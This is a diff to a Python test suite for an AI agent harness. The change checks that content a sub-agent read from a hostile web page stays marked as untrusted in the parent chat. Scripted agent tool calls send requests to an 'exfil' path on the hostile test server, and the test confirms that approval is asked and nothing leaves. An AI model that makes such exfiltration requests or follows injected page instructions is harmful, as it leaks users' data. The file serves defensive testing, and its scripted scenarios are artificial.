@@ -89,9 +89,12 @@ async def run(session: Session, text: str) -> list[dict]:
 
 
 def outcomes(frames: list[dict]) -> list[tuple[dict, str, str]]:
-    """(arguments the loop saw, outcome, result) of each call: asked, refused, bad call or ran."""
+    """(arguments the loop saw, outcome, result) of each of the run's own calls: asked, refused,
+    bad call or ran."""
     found, asked = [], False
     for frame in frames:
+        if frame.get("is_subagent"):
+            continue  # a sub-agent's own calls, forwarded
         if frame["type"] == "tool_started":
             asked = False
         elif frame["type"] == "approval_required":
@@ -376,3 +379,21 @@ async def test_code_and_commands_with_network_give_untrusted_output(llm, setting
     assert "fetched" in ran[2]
     assert ran[2].startswith("[UNTRUSTED DATA") == network
     assert write[1] == ("asked" if network else "ran")
+
+
+async def test_what_a_sub_agent_read_taints_the_chat_through_its_answer(llm, session, evil):
+    """The sub-agent's context is gone when it ends; its answer, made of the page, keeps the mark."""
+    page, base, received = evil
+    script(llm, "SUBTASK", [("web_view", {"url": page})], answer="The page says to open a link.")
+    script(
+        llm, "delegate",
+        [("spawn_agent", {"task": f"SUBTASK read {page}", "profile_id": "secretary"})],
+        [("http_request", {"url": f"{base}/exfil?d=1"})],
+    )
+    frames = await run(session, "delegate the reading")
+    spawn, same_run = outcomes(frames)
+    assert spawn[2].startswith("[UNTRUSTED DATA") and f"after reading {page}" in spawn[2]
+    assert same_run[1] == "asked"
+    script(llm, "thanks", [("http_request", {"url": f"{base}/exfil?d=2"})])
+    later = await run(session, "thanks")
+    assert outcomes(later)[0][1] == "asked" and received == []
